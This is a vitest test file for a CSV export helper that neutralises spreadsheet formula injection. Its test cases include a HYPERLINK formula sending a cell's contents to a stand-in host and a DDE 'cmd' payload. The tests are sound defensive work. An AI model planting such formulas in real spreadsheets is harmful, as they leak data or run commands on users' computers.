import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { safeCell, toSpreadsheet } from '../../ui/index.ts';

describe('spreadsheet exports opened in Excel', () => {
  it.each([
    ['=HYPERLINK("http://x.example"&A2,"Bấm để xem")', `'=HYPERLINK("http://x.example"&A2,"Bấm để xem")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(1,2)', `'@SUM(1,2)`],
    ['\tcell', `'\tcell`],
    ['\rcell', `'\rcell`],
    ['Công ty TNHH Phú Hưng', 'Công ty TNHH Phú Hưng'],
    ['2026-11-23', '2026-11-23'],
  ])('neutralises %j so it is never run as a formula', (written, cell) => {
    expect(safeCell(written)).toBe(cell);
  });

  it('keeps numbers as numbers and leaves a missing value empty', () => {
    expect(safeCell(-12)).toBe(-12);
    expect(safeCell(undefined)).toBe('');
  });

  it('writes UTF-8 with a byte-order mark and Windows line ends, every cell neutralised', () => {
    const csv = toSpreadsheet(['Doanh nghiệp', 'Ngày'], [['=1+1', 30]]);
    expect(csv.startsWith('\uFEFFDoanh nghiệp,Ngày\r\n')).toBe(true);
    expect(parse(csv.slice(1))).toEqual([
      ['Doanh nghiệp', 'Ngày'],
      ["'=1+1", '30'],
    ]);
  });
});
